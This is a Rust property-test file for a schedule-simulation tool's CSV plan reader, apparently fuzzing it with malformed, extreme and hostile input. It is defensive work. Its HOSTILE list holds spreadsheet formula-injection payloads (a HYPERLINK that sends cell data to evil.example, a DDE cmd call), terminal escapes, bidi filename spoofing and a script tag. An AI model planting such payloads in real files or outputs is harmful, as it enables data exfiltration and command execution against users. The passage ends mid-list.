//! Property tests: random and malformed CSV never makes the plan reader
//! panic, and every plan it accepts simulates to sane numbers.
//!
//! Why: the README promises that a `Plan` that exists is valid (unique ids,
//! resolved acyclic links, proper distributions) and the house style that "the
//! engine's hot loop cannot fail" once validation passed. These properties
//! check both promises from the outside, on inputs nobody would write by
//! hand. Case counts are modest so the file runs in seconds in debug.

use std::collections::HashMap;

use proptest::prelude::*;
use proptest::sample::select;

use slipcast::engine::{SimOptions, deterministic, simulate};
use slipcast::network::Network;
use slipcast::plan::{
    Estimate, LinkKind, Plan, Status, TeamRule, TextEncoding, build_correlation, parse_pairs,
    parse_plan, parse_risks,
};

const CASES: u32 = 300;

// ---------------------------------------------------------------- invariants

/// The least duration a task can take in any iteration.
fn min_duration(e: &Estimate) -> f64 {
    match *e {
        Estimate::Fixed { days } => days,
        Estimate::Uniform { low, .. }
        | Estimate::Triangular { low, .. }
        | Estimate::Pert { low, .. } => low,
        Estimate::Normal { .. } | Estimate::LogNormal { .. } => 0.0,
    }
}

/// The most a bounded task can take, `None` for normal and log-normal.
fn max_duration(e: &Estimate) -> Option<f64> {
    match *e {
        Estimate::Fixed { days } => Some(days),
        Estimate::Uniform { high, .. }
        | Estimate::Triangular { high, .. }
        | Estimate::Pert { high, .. } => Some(high),
        Estimate::Normal { .. } | Estimate::LogNormal { .. } => None,
    }
}

/// The links the engine keeps (`Network::compile`: a done task has no work
/// left, so it neither waits for nor constrains anything; an in-progress
/// task has already started, so only its finish links still bind).
fn kept(plan: &Plan, t: usize) -> Vec<(usize, LinkKind, f64)> {
    let task = &plan.tasks[t];
    task.links
        .iter()
        .filter(|l| plan.tasks[l.pred].status != Status::Done)
        .filter(|l| match task.status {
            Status::Done => false,
            Status::InProgress => !l.kind.constrains_start(),
            Status::Todo => true,
        })
        .map(|l| (l.pred, l.kind, l.lag))
        .collect()
}

/// The schedule of the README in f64, with `dur(t)` as each task's duration:
/// start = max(0, FS/SS link times, FF/SF link times - duration). Returns
/// per-task (start, finish).
fn schedule(plan: &Plan, dur: impl Fn(usize) -> f64) -> Vec<(f64, f64)> {
    let mut sf = vec![(0.0f64, 0.0f64); plan.tasks.len()];
    for &t in plan.order() {
        let d = dur(t);
        let mut s = 0.0f64;
        let mut f = f64::NEG_INFINITY;
        for (p, kind, lag) in kept(plan, t) {
            let src = if kind.from_finish() { sf[p].1 } else { sf[p].0 };
            if kind.constrains_start() {
                s = s.max(src + lag);
            } else {
                f = f.max(src + lag);
            }
        }
        let start = s.max(f - d);
        sf[t] = (start, start + d);
    }
    sf
}

fn close(a: f64, b: f64) -> bool {
    (a - b).abs() <= 1e-3 + 1e-4 * a.abs().max(b.abs())
}

/// Simulates an accepted plan and checks what must hold for any plan.
fn check_simulates(plan: &Plan, seed: u64, milestone: Option<usize>) -> Result<(), TestCaseError> {
    let n = plan.tasks.len();
    prop_assert!(n > 0, "an accepted plan has tasks");
    // The order is topological.
    let mut pos = vec![usize::MAX; n];
    for (i, &t) in plan.order().iter().enumerate() {
        pos[t] = i;
    }
    prop_assert!(pos.iter().all(|&p| p < n), "order is a permutation");
    for (t, task) in plan.tasks.iter().enumerate() {
        for l in &task.links {
            prop_assert!(pos[l.pred] < pos[t], "{} before {}", l.pred, t);
        }
    }

    let net = Network::compile(plan, milestone);
    let iterations = 256;
    let out = simulate(&net, &SimOptions::full(iterations, seed));
    prop_assert_eq!(out.project.len(), iterations as usize);
    prop_assert_eq!(out.iterations, iterations);
    prop_assert_eq!(out.seed, seed);
    let finish_set: Vec<usize> = match milestone {
        Some(m) => vec![m],
        None => (0..n).collect(),
    };
    // Start times are never negative, so the project takes at least as long
    // as any task it waits for.
    let floor = finish_set
        .iter()
        .map(|&t| min_duration(&plan.tasks[t].estimate))
        .fold(0.0f64, f64::max);
    for &d in &out.project {
        let d = f64::from(d);
        prop_assert!(d.is_finite(), "project duration {d} is not finite");
        prop_assert!(d >= 0.0, "project duration {d} < 0");
        prop_assert!(
            d >= floor - 1e-3 - 1e-5 * floor,
            "project {d} < floor {floor}"
        );
    }
    let critical = out.critical.as_ref().expect("full() counts criticality");
    prop_assert_eq!(critical.len(), n);
    prop_assert!(critical.iter().all(|&c| c <= iterations));
    let days = out
        .finish_days
        .as_ref()
        .expect("full() histograms finishes");
    prop_assert_eq!(days.counts.len(), n);
    for counts in &days.counts {
        prop_assert_eq!(counts.iter().sum::<u64>(), iterations);
    }

    // Without FF/SF links the schedule is monotone in every duration, so the
    // schedule on the lowest durations bounds every iteration from below,
    // and on the highest (when all are bounded) from above.
    let monotone = (0..n).all(|t| kept(plan, t).iter().all(|l| l.1.constrains_start()));
    if monotone {
        let proj = |sf: &[(f64, f64)]| finish_set.iter().map(|&t| sf[t].1).fold(0.0, f64::max);
        let lo = proj(&schedule(plan, |t| min_duration(&plan.tasks[t].estimate)));
        let highs: Option<Vec<f64>> = plan
            .tasks
            .iter()
            .map(|t| max_duration(&t.estimate))
            .collect();
        let hi = highs.map(|h| proj(&schedule(plan, |t| h[t])));
        for &d in &out.project {
            let d = f64::from(d);
            prop_assert!(
                d >= lo || close(d, lo),
                "project {d} below the CPM minimum {lo}"
            );
            if let Some(hi) = hi {
                prop_assert!(
                    d <= hi || close(d, hi),
                    "project {d} above the CPM maximum {hi}"
                );
            }
        }
    }

    // The deterministic schedule is the README's rule on planned durations.
    let det = deterministic(&net);
    let want = schedule(plan, |t| plan.tasks[t].estimate.planned());
    prop_assert!(det.project.is_finite() && det.project >= 0.0);
    for (t, &(start, finish)) in want.iter().enumerate() {
        prop_assert!(det.start[t] >= 0.0, "task {t} starts at {}", det.start[t]);
        prop_assert!(
            close(det.start[t], start) && close(det.finish[t], finish),
            "task {t}: engine ({}, {}), expected ({start}, {finish})",
            det.start[t],
            det.finish[t],
        );
    }
    let want_project = finish_set.iter().map(|&t| want[t].1).fold(0.0, f64::max);
    prop_assert!(
        close(det.project, want_project),
        "{} vs {want_project}",
        det.project
    );
    prop_assert!(det.critical.iter().any(|&c| c), "no critical task");

    // Same seed, same draws.
    let again = simulate(&net, &SimOptions::full(iterations, seed));
    prop_assert!(again == out, "a rerun with the same seed differs");
    Ok(())
}

/// Parses, and when the plan is accepted, simulates it.
fn parse_and_check(text: &str, edges: Option<&str>, seed: u64) -> Result<(), TestCaseError> {
    match parse_plan("plan.csv", text, edges.map(|e| ("edges.csv", e))) {
        Ok(plan) => {
            let milestone = seed
                .is_multiple_of(3)
                .then(|| (seed as usize / 3) % plan.tasks.len());
            check_simulates(&plan, seed, milestone)
        }
        Err(e) => {
            // Rejected input always says why, with a place.
            let problems = e.problems();
            prop_assert!(!problems.is_empty(), "an error without problems: {e}");
            for p in problems {
                prop_assert!(p.file == "plan.csv" || p.file == "edges.csv");
                prop_assert!(p.line.is_some_and(|l| l >= 1), "no line: {p}");
            }
            prop_assert!(!e.to_string().is_empty());
            Ok(())
        }
    }
}

// ---------------------------------------------------------------- vocabularies

const HEADERS: &[&str] = &[
    "id",
    "ID",
    "task_id",
    "key",
    "name",
    "title",
    "low",
    "min",
    "Optimistic",
    "best",
    "likely",
    "most_likely",
    "ML",
    "mode",
    "estimate",
    "high",
    "max",
    "pessimistic",
    "worst",
    "dist",
    "distribution",
    "confidence",
    "conf",
    "depends_on",
    "predecessors",
    "deps",
    "team",
    "owner",
    "priority",
    "status",
    "state",
    "",
    "junk",
    "id2",
    "low ",
    "\u{feff}id",
];

const IDS: &[&str] = &[
    "a", "b", "c", "d", "A", "api-v2", "a b", "a;b", "x:y", "", "é", "a\"b",
];

/// Durations a plan may hold, up to near the 100000-day limit.
const NUMBERS: &[&str] = &[
    "0", "0.5", "1", "2", "2.5", "3", "5", "8", "13", "20", "100", "1000", "1e2", "0.001", " 4 ",
    "99999",
];

const JUNK: &[&str] = &[
    "x", "nan", "NaN", "inf", "-inf", "infinity", "1e309", "-1", "-0", "%", "1,5", "", "\"", "--",
    "1.2.3", "0x10", "١",
];

const LINKS: &[&str] = &[
    "a",
    "b",
    "c",
    "d",
    "a+2",
    "b-1",
    "a:SS+1",
    "b:FF-1",
    "c:SF",
    "a:ss",
    "a:XX",
    "a:SS+x",
    ":SS",
    "a;b",
    "a;b;c",
    "zz",
    "api-v2",
    "api-v2+1.5",
    "a+",
    "a:",
    "b:FS+0.5",
    "d:FF+3;a",
    // Lags that are not numbers: bad lags, not unknown ids.
    "a+x",
    "a-",
    "b+1x",
    "a:FF-",
];

const DISTS: &[&str] = &[
    "",
    "pert",
    "triangular",
    "uniform",
    "normal",
    "lognormal",
    "fixed",
    "PERT",
    "tri",
    "gaussian",
    "log-normal",
    "constant",
    "foo",
    "betta",
];

const STATUSES: &[&str] = &["", "todo", "in_progress", "done", "wip", "Done", "blocked"];
const PRIORITIES: &[&str] = &["", "1", "2", "-3", "1.5", "high"];
/// Confidences whose fitted tails stay within f32 (see the extreme tests).
const CONFIDENCES: &[&str] = &[
    "", "", "50", "80", "90", "95", "99", "0.8", "60%", "0", "100",
];

fn any_cell() -> impl Strategy<Value = String> {
    prop_oneof![
        select(IDS),
        select(NUMBERS),
        select(NUMBERS),
        select(JUNK),
        select(LINKS),
        select(DISTS),
        select(STATUSES),
        select(PRIORITIES),
        select(CONFIDENCES),
    ]
    .prop_map(str::to_string)
}

/// The headers of each export shape.
const EXPORT_HEADERS: [&str; 5] = [
    "ID,Name,Duration,Start,Finish,Predecessors,% Complete,Summary,Low",
    "Task Name,Start,End,Duration,Predecessors,Status,High",
    "Task ID,Name,Start Date,Due Date,Blocked By (Dependencies),Completed At",
    "Issue key,Summary,Status,Original Estimate,Remaining Estimate,Story Points,Inward issue link (Blocks),Outward issue link (Blocks),Inward issue link (Blocks)",
    "Key,Effort (days),Blocked by,Priority,Status,Low",
];

/// Cells exports hold, right and wrong.
const EXPORT_CELLS: &[&str] = &[
    "",
    "1",
    "2",
    "3",
    "5 days",
    "2w?",
    "0 days",
    "3 edays",
    "4h",
    "1mo",
    "-1d",
    "2,5",
    "1e400",
    "28800",
    "-5",
    "Mon 1/5/26",
    "2026-01-05",
    "2026-13-40",
    "1/32/26",
    "3FS+2 days;4SS",
    "2, 3FS +1d",
    "1FS+50%",
    "9FF-1d",
    "1SS+é",
    "é",
    "Done",
    "In Progress",
    "Parked",
    "Yes",
    "100%",
    "A-1",
    "A-2, X-9",
    "1, 2",
    "x",
];

fn export_cell() -> impl Strategy<Value = String> {
    select(EXPORT_CELLS).prop_map(str::to_string)
}

/// A CSV cell, quoted when it must be.
fn quote(cell: &str) -> String {
    if cell.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", cell.replace('"', "\"\""))
    } else {
        cell.to_string()
    }
}

fn csv_text(header: &[String], rows: &[Vec<String>]) -> String {
    let mut s = String::new();
    let line = |cells: &[String]| cells.iter().map(|c| quote(c)).collect::<Vec<_>>().join(",");
    s.push_str(&line(header));
    s.push('\n');
    for r in rows {
        s.push_str(&line(r));
        s.push('\n');
    }
    s
}

/// A cell that fits its column, or (now and then) any cell at all.
fn cell_for(column: &str) -> BoxedStrategy<String> {
    let c = column
        .trim()
        .trim_start_matches('\u{feff}')
        .to_ascii_lowercase();
    let fitting: BoxedStrategy<&'static str> = match c.as_str() {
        "id" | "task_id" | "key" | "id2" => select(IDS).boxed(),
        "low" | "min" | "optimistic" | "best" | "likely" | "most_likely" | "ml" | "mode"
        | "estimate" | "high" | "max" | "pessimistic" | "worst" => select(NUMBERS).boxed(),
        "dist" | "distribution" => select(DISTS).boxed(),
        "confidence" | "conf" => select(CONFIDENCES).boxed(),
        "depends_on" | "predecessors" | "deps" => select(LINKS).boxed(),
        "priority" => select(PRIORITIES).boxed(),
        "status" | "state" => select(STATUSES).boxed(),
        _ => select(&["", "x", "Team A"][..]).boxed(),
    };
    prop_oneof![6 => fitting.prop_map(str::to_string), 1 => any_cell()].boxed()
}

/// A header (random columns from the vocabulary) and rows whose cells mostly
/// fit their column; rows may be short or long.
fn table() -> impl Strategy<Value = (Vec<String>, Vec<Vec<String>>)> {
    prop::collection::vec(select(HEADERS).prop_map(str::to_string), 1..9).prop_flat_map(|header| {
        let row = header
            .iter()
            .map(|h| cell_for(h))
            .collect::<Vec<_>>()
            .prop_flat_map(|cells| {
                let len = cells.len();
                (Just(cells), 0..len + 2, any::<bool>())
            })
            .prop_map(|(mut cells, keep, ragged)| {
                if ragged {
                    cells.resize(keep, "x".into());
                }
                cells
            });
        (Just(header), prop::collection::vec(row, 0..8))
    })
}

/// No byte order mark, and those of UTF-8, UTF-16LE and UTF-16BE.
const BOMS: &[&[u8]] = &[b"", b"\xEF\xBB\xBF", b"\xFF\xFE", b"\xFE\xFF"];

// ---------------------------------------------------------------- properties

proptest! {
    #![proptest_config(ProptestConfig::with_cases(CASES))]

    /// Random bytes: read as text (lossily), as a plan and as an edges file.
    #[test]
    fn random_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..300), seed in any::<u64>()) {
        let text = String::from_utf8_lossy(&bytes);
        parse_and_check(&text, None, seed)?;
        parse_and_check("id,likely\na,1\nb,2\n", Some(&text), seed)?;
    }

    /// Random bytes, with now and then a byte order mark, decoded as a file
    /// is: in UTF-8 (the default) or a labelled encoding. Either the text
    /// reads as a plan (or is rejected with a place), or decoding fails at a
    /// line of the file.
    #[test]
    fn random_bytes_decode_or_fail_at_a_line(
        bom in select(BOMS),
        bytes in prop::collection::vec(prop_oneof![4 => 0x20u8..0x7f, 1 => Just(b'\n'), 1 => any::<u8>()], 0..200),
        label in select(&["", "windows-1252", "utf-16le", "utf-16be", "shift_jis", "iso-8859-2"][..]),
        seed in any::<u64>(),
    ) {
        let encoding = if label.is_empty() {
            TextEncoding::default()
        } else {
            TextEncoding::for_label(label).unwrap()
        };
        let bytes = [bom, &bytes[..]].concat();
        match encoding.decode("plan.csv", &bytes) {
            Ok(text) => {
                prop_assert!(!text.contains('\0'));
                parse_and_check(&text, None, seed)?;
            }
            Err(p) => {
                prop_assert_eq!(p.file.as_str(), "plan.csv");
                let lines = bytes.iter().filter(|&&b| b == b'\n').count() as u64 + 1;
                prop_assert!(p.line.is_some_and(|l| l >= 1 && l <= lines), "{}", p);
            }
        }
    }

    /// Random text made of the characters CSV and the link syntax care about.
    #[test]
    fn random_csv_like_text_never_panics(
        text in "(id|low|likely|high|dist|depends_on|[a-c0-9,;:\"\r\n# .+\\-%]){0,40}",
        seed in any::<u64>(),
    ) {
        parse_and_check(&text, None, seed)?;
        let with_header = format!("id,low,likely,high,dist,confidence,depends_on,status\n{text}");
        parse_and_check(&with_header, None, seed)?;
        parse_and_check("id,likely\na,1\nb,2\nc,3\n", Some(&format!("from,to,type,lag\n{text}")), seed)?;
    }

    /// Random headers and cells from the plan vocabulary (ids, numbers,
    /// junk, links, distribution names, statuses), with ragged rows, comment
    /// lines and blank lines.
    #[test]
    fn random_cells_never_panic(
        (header, rows) in table(),
        comment_at in prop::option::of(0usize..10),
        seed in any::<u64>(),
    ) {
        let mut text = csv_text(&header, &rows);
        if let Some(k) = comment_at {
            let mut lines: Vec<&str> = text.lines().collect();
            let k = k.min(lines.len());
            lines.insert(k, if k % 2 == 0 { "# a comment, with commas" } else { "" });
            text = lines.join("\n");
        }
        parse_and_check(&text, None, seed)?;
    }

    /// The headers of MS Project, Smartsheet, Asana and Jira exports with
    /// random cells, including durations, dates, predecessors and seconds
    /// written wrongly: problems or a plan, never a panic.
    #[test]
    fn random_export_cells_never_panic(
        shape in 0usize..5,
        rows in prop::collection::vec(prop::collection::vec(export_cell(), 0..9), 0..6),
        seed in any::<u64>(),
    ) {
        let header: Vec<String> = EXPORT_HEADERS[shape].split(',').map(str::to_string).collect();
        parse_and_check(&csv_text(&header, &rows), None, seed)?;
        let semicolons = csv_text(&header, &rows).replace(',', ";");
        parse_and_check(&semicolons, None, seed)?;
    }

    /// Random headers made of arbitrary short strings.
    #[test]
    fn random_headers_never_panic(
        header in prop::collection::vec("[a-zA-Z_ \\-]{0,12}", 1..8),
        rows in prop::collection::vec(prop::collection::vec(any_cell(), 0..8), 0..5),
        seed in any::<u64>(),
    ) {
        parse_and_check(&csv_text(&header, &rows), None, seed)?;
    }

    /// Random dependency graphs: accepted exactly when acyclic, and every
    /// cycle reported is a real cycle, printed in dependency order.
    #[test]
    fn random_graphs_are_accepted_exactly_when_acyclic(
        deps in prop::collection::vec(prop::collection::vec((0usize..8, select(&["", ":SS", ":FF", ":SF", "+1", "-2", ":SS+0.5"][..])), 0..4), 1..8),
        via_edges in any::<bool>(),
        seed in any::<u64>(),
    ) {
        let n = deps.len();
        let id = |i: usize| format!("t{i}");
        // preds[t] = tasks t waits for (self-links dropped: they have their
        // own error).
        let preds: Vec<Vec<usize>> = deps
            .iter()
            .enumerate()
            .map(|(t, d)| d.iter().map(|&(p, _)| p % n).filter(|&p| p != t).collect())
            .collect();
        let mut text = String::from("id,low,likely,high,depends_on\n");
        let mut edges = String::from("from,to,type,lag\n");
        for (t, d) in deps.iter().enumerate() {
            let mut cell = Vec::new();
            for &(p, suffix) in d {
                let p = p % n;
                if p == t {
                    continue;
                }
                if via_edges {
                    let (kind, lag) = match suffix {
                        ":SS" => ("SS", ""),
                        ":FF" => ("FF", ""),
                        ":SF" => ("SF", ""),
                        "+1" => ("FS", "1"),
                        "-2" => ("", "-2"),
                        ":SS+0.5" => ("ss", "0.5"),
                        _ => ("", ""),
                    };
                    edges.push_str(&format!("{},{},{kind},{lag}\n", id(p), id(t)));
                } else {
                    cell.push(format!("{}{suffix}", id(p)));
                }
            }
            text.push_str(&format!("{},1,2,4,{}\n", id(t), cell.join(";")));
        }
        let result = parse_plan("plan.csv", &text, via_edges.then_some(("edges.csv", edges.as_str())));

        // Kahn's algorithm, independently.
        let mut indeg: Vec<usize> = preds.iter().map(Vec::len).collect();
        let mut ready: Vec<usize> = (0..n).filter(|&t| indeg[t] == 0).collect();
        let mut done = 0;
        while let Some(p) = ready.pop() {
            done += 1;
            for (t, ps) in preds.iter().enumerate() {
                for &q in ps {
                    if q == p {
                        indeg[t] -= 1;
                        if indeg[t] == 0 {
                            ready.push(t);
                        }
                    }
                }
            }
        }
        let acyclic = done == n;
        match result {
            Ok(plan) => {
                prop_assert!(acyclic, "a cyclic plan was accepted:\n{text}\n{edges}");
                check_simulates(&plan, seed, None)?;
            }
            Err(e) => {
                prop_assert!(!acyclic, "an acyclic plan was rejected: {e}\n{text}\n{edges}");
                let index: HashMap<String, usize> = (0..n).map(|i| (id(i), i)).collect();
                for p in e.problems() {
                    let msg = p.to_string();
                    let Some(rest) = msg.split("dependency cycle ").nth(1) else {
                        return Err(TestCaseError::fail(format!("not a cycle: {msg}")));
                    };
                    let cycle: Vec<usize> = rest
                        .split(';')
                        .next()
                        .unwrap()
                        .split(" -> ")
                        .map(|s| index[s])
                        .collect();
                    prop_assert!(cycle.len() >= 3, "{msg}");
                    prop_assert_eq!(cycle.first(), cycle.last(), "{}", msg);
                    prop_assert_eq!(p.task.clone(), Some(id(cycle[0])));
                    for w in cycle.windows(2) {
                        prop_assert!(preds[w[1]].contains(&w[0]), "{} does not wait for {}: {}", id(w[1]), id(w[0]), msg);
                    }
                }
            }
        }
    }

    /// Well-formed plans with every distribution, status and link type (and
    /// now and then a malformed row): whenever one is accepted, it simulates
    /// to sane numbers.
    #[test]
    fn accepted_plans_simulate_sanely(
        header in select(&[
            "id,low,likely,high,dist,confidence,status,depends_on",
            "ID,Min,Most Likely,Max,Distribution,Conf,State,Predecessors",
            "\u{feff}key,optimistic,mode,pessimistic,dist,confidence,status,deps",
        ][..]),
        tasks in prop::collection::vec(
            (
                select(&["", "pert", "triangular", "uniform", "normal", "lognormal", "fixed"][..]),
                prop::collection::vec(select(NUMBERS), 3),
                prop::option::weighted(0.1, (prop::collection::vec(any::<bool>(), 3), select(CONFIDENCES))),
                (any::<bool>(), select(&["", "50", "80", "90", "95", "99", "0.8", "60%"][..])),
                select(&["", "", "", "in_progress", "done"][..]),
                prop::collection::vec((any::<prop::sample::Index>(), select(&["FS", "SS", "FF", "SF"][..]), -3i32..6), 0..4),
            ),
            1..10,
        ),
        comment_after in prop::option::of(any::<prop::sample::Index>()),
        seed in any::<u64>(),
    ) {
        let mut lines = vec![header.to_string()];
        for (t, (dist, nums, wild, (mid, conf), status, links)) in tasks.iter().enumerate() {
            let mut v: Vec<f64> = nums.iter().map(|s| s.trim().parse().unwrap()).collect();
            v.sort_by(f64::total_cmp);
            let (a, b, c) = (v[0], v[1], v[2]);
            let f = |x: f64| x.to_string();
            let (low, likely, high, conf) = match wild {
                // Any cells blank, any confidence: may well be rejected.
                Some((blank, conf)) => {
                    let cell = |i: usize| if blank[i] { String::new() } else { f(v[i]) };
                    (cell(0), cell(1), cell(2), conf.to_string())
                }
                None => match *dist {
                    "uniform" => (f(a), String::new(), f(c), conf.to_string()),
                    "normal" => {
                        let c = if c > a { c } else { a + 1.0 };
                        let likely = if *mid { f((a + c) / 2.0) } else { String::new() };
                        (f(a), likely, f(c), conf.to_string())
                    }
                    "lognormal" => {
                        let a = a.max(0.5);
                        let c = if c > a { c } else { a + 1.0 };
                        if *mid && conf.is_empty() {
                            (f(a), f(b.clamp(a, c)), f(c), String::new())
                        } else {
                            (f(a), String::new(), f(c), conf.to_string())
                        }
                    }
                    "fixed" => (String::new(), f(b), String::new(), String::new()),
                    _ => (f(a), f(b), f(c), String::new()),
                },
            };
            let deps: Vec<String> = if t == 0 {
                Vec::new()
            } else {
                links
                    .iter()
                    .map(|(i, kind, lag)| format!("t{}:{kind}{lag:+}", i.index(t)))
                    .collect()
            };
            lines.push(format!("t{t},{low},{likely},{high},{dist},{conf},{status},{}", deps.join(";")));
        }
        if let Some(k) = comment_after {
            let k = 1 + k.index(lines.len());
            lines.insert(k, "# a comment line".into());
        }
        parse_and_check(&(lines.join("\n") + "\n"), None, seed)?;
    }
}

// ---------------------------------------------------------------- extreme values

/// Durations so long that their finish day overflows: each must be rejected
/// by validation or simulate to finite numbers.
const EXTREME_PLANS: &[&str] = &[
    // Overflows f32: sampled durations are infinite.
    "id,likely\na,1e300\n",
    "id,likely\na,3.5e38\n",
    // Finite in f32 but beyond any calendar.
    "id,likely\na,1e20\n",
    // Modest intervals at low confidences: the fitted log-normal's upper
    // tail overflows f32 (sigma ~ 37), or its finish day overflows u64.
    "id,low,high,dist,confidence\na,1,100,lognormal,5\n",
    "id,low,high,dist,confidence\na,1,30,lognormal,10\n",
    // Found by `accepted_plans_simulate_sanely`: a wide interval at
    // confidence 50 has a tail near 1e19 days; two tasks that reach it
    // overflow the sum of histogram bins in the engine's layout.
    "id,low,high,dist,confidence,depends_on\na,0.001,100,lognormal,50,\nb,0,0,fixed,,a\n",
    // The same through a lag.
    "id,likely,depends_on\na,1,\nb,1,a+1e300\n",
];

/// Runs `f` on another thread, failing if it panics or does not finish in
/// `secs` seconds (a hang is a failure, not a stuck test run).
fn within(secs: u64, f: impl FnOnce() + Send + 'static) -> Result<(), String> {
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(f));
        let _ = tx.send(r.map_err(|e| {
            e.downcast_ref::<String>()
                .cloned()
                .or_else(|| e.downcast_ref::<&str>().map(|s| s.to_string()))
                .unwrap_or_default()
        }));
    });
    match rx.recv_timeout(std::time::Duration::from_secs(secs)) {
        Ok(Ok(())) => Ok(()),
        Ok(Err(msg)) => Err(format!("panicked: {msg}")),
        Err(_) => Err(format!("did not finish in {secs} s")),
    }
}

/// Regression: `id,likely\na,1e300\n` was accepted, then `simulate`
/// panicked with "attempt to add with overflow" in
/// `Network::finish_day_bounds` (the f32 duration is infinite, its day
/// saturates to u64::MAX, and `+ 1` overflows);
/// `id,low,high,dist,confidence\na,1,30,lognormal,10\n` did the same through
/// a log-normal tail, and
/// `id,low,high,dist,confidence,depends_on\na,0.001,100,lognormal,50,\nb,0,0,fixed,,a\n`
/// overflowed the `u64` sum of histogram bins in `Layout::new`. The README's
/// engine "cannot fail" once a plan is valid, so validation now rejects
/// durations, lags and fitted tails beyond 100000 working days.
#[test]
fn extreme_plans_are_rejected_or_simulate_finitely() {
    let mut failures = Vec::new();
    for &text in EXTREME_PLANS {
        let r = within(30, move || {
            if let Ok(plan) = parse_plan("plan.csv", text, None) {
                let net = Network::compile(&plan, None);
                let out = simulate(&net, &SimOptions::full(256, 1));
                assert!(
                    out.project.iter().all(|d| d.is_finite()),
                    "non-finite project durations"
                );
                assert!(deterministic(&net).project.is_finite());
            }
        });
        if let Err(e) = r {
            failures.push(format!("{text:?}: {e}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(150))]

    /// Extreme numbers, numbers near the limit and low confidences: every
    /// plan accepted simulates to finite durations, without a panic or a
    /// hang (see `extreme_plans_are_rejected_or_simulate_finitely`).
    #[test]
    fn accepted_plans_with_extreme_values_simulate_finitely(
        rows in prop::collection::vec(
            (
                select(&["", "pert", "uniform", "normal", "lognormal", "fixed"][..]),
                select(&["1", "0.001", "0.0001", "50000", "1e12", "1e20", "3e38", "1e300"][..]),
                select(&["2", "100", "99999", "100000", "1e13", "1e30", "1e300"][..]),
                select(&["", "1", "5", "10", "20", "30", "50", "0.05", "99.9"][..]),
            ),
            1..4,
        ),
    ) {
        // A chain, so that long durations add up.
        let mut text = String::from("id,low,high,dist,confidence,depends_on\n");
        for (t, (dist, low, high, conf)) in rows.iter().enumerate() {
            let dep = if t > 0 { format!("t{}", t - 1) } else { String::new() };
            text.push_str(&format!("t{t},{low},{high},{dist},{conf},{dep}\n"));
        }
        let r = within(30, move || {
            if let Ok(plan) = parse_plan("plan.csv", &text, None)
                && let Err(e) = check_simulates(&plan, 1, None)
            {
                panic!("{e}\n{text}");
            }
        });
        prop_assert!(r.is_ok(), "{}", r.unwrap_err());
    }
}

// ---------------------------------------------------------------- hostile text
//
// Ids, names and team names made to attack whatever shows them: spreadsheet
// formula prefixes, terminal escapes (C0, C1, DEL), bidi overrides and
// isolates, zero-width characters, XML specials and characters XML forbids,
// quotes, line breaks and very long text. tests/hostile.rs checks every
// output through the CLI; here they go through the plan reader: never a
// panic, an accepted plan simulates sanely, and a rejection's message,
// shown the way `main` prints it, holds no raw control character.

const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"//evil.example/?\"&A1)",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab",
    "\rCR",
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}]0;retitled\u{7}",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{7}\u{8}\u{7f}",
    "\u{0}",
    "\u{9b}31m\u{85}\u{90}",
    "\u{202e}gpj.exe",
    "\u{2066}\u{2067}\u{2068}\u{2069}",
    "zero\u{200b}width\u{200d}\u{feff}",
    "<script>alert(1)</script>",
    "&amp;&lt;]]>",
    "\"quoted\"",
    "'single'",
    "\u{b}\u{c}",
    "\u{fffe}\u{ffff}",
    "line\nbreak",
    "é中🙂",
];

/// A raw character a terminal acts on (see tests/hostile.rs).
fn acts_on_terminal(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || ('\u{202a}'..='\u{202e}').contains(&c)
        || ('\u{2066}'..='\u{2069}').contains(&c)
}

/// Hostile text, mostly of pieces the reader accepts in an id (`id`) or a
/// name, now and then of any piece.
fn hostile_text(id: bool) -> impl Strategy<Value = String> {
    let accepted: Vec<&'static str> = HOSTILE
        .iter()
        .copied()
        .filter(|p| !p.contains(['\0', '\n', '\r']))
        .filter(|p| !id || !p.contains(|c: char| c.is_whitespace() || c == ';' || c == ':'))
        .collect();
    let piece = prop_oneof![5 => select(accepted), 1 => select(HOSTILE)];
    (prop::collection::vec(piece, 1..4), 1..30usize)
        .prop_map(|(pieces, times)| pieces.concat().repeat(times))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(CASES))]

    /// Plans whose ids, names and teams are hostile text (numbered to keep
    /// most ids unique), in a chain through `depends_on` now and then.
    #[test]
    fn hostile_ids_names_and_teams_never_panic(
        rows in prop::collection::vec(
            (hostile_text(true), hostile_text(false), hostile_text(false), select(NUMBERS), any::<bool>()),
            1..6,
        ),
        numbered in any::<bool>(),
        seed in any::<u64>(),
    ) {
        let mut text = String::from("id,name,team,likely,depends_on\n");
        let mut prev = String::new();
        for (i, (id, name, team, likely, chained)) in rows.iter().enumerate() {
            let id = if numbered { format!("{id}{i}") } else { id.clone() };
            let dep = if *chained { prev.clone() } else { String::new() };
            let cells = [id.as_str(), name, team, likely, dep.as_str()];
            text.push_str(&cells.iter().map(|c| quote(c)).collect::<Vec<_>>().join(","));
            text.push('\n');
            prev = id;
        }
        parse_and_check(&text, None, seed)?;
        if let Err(e) = parse_plan("plan.csv", &text, None) {
            let shown = slipcast::report::inert::visible(&e.to_string()).into_owned();
            let raw: Vec<char> = shown.chars().filter(|&c| acts_on_terminal(c)).collect();
            prop_assert!(raw.is_empty(), "raw {raw:?} in {shown:?}");
        }
    }
}

// ---------------------------------------------------------------- malformed files

/// Plans (and edges files) that were read wrongly or explained badly; each
/// must be rejected, with every problem at a file and line.
const MALFORMED: &[(&str, Option<&str>)] = &[
    // An unbalanced quote swallowed rows 3 and 4 into task a's name.
    (
        "id,name,low,likely,high\na,\"Design,1,2,3\nb,Build,1,2,3\nc,\"Test,1,2,3\n",
        None,
    ),
    // A quote that never closes.
    (
        "id,name,low,likely,high\na,\"Design,1,2,3\nb,Build,1,2,3\n",
        None,
    ),
    ("id,likely\na,\"1", None),
    // A quote in the header.
    ("id,\"name,likely\na,x,1\n", None),
    // More cells than the header: an unquoted comma in a name.
    (
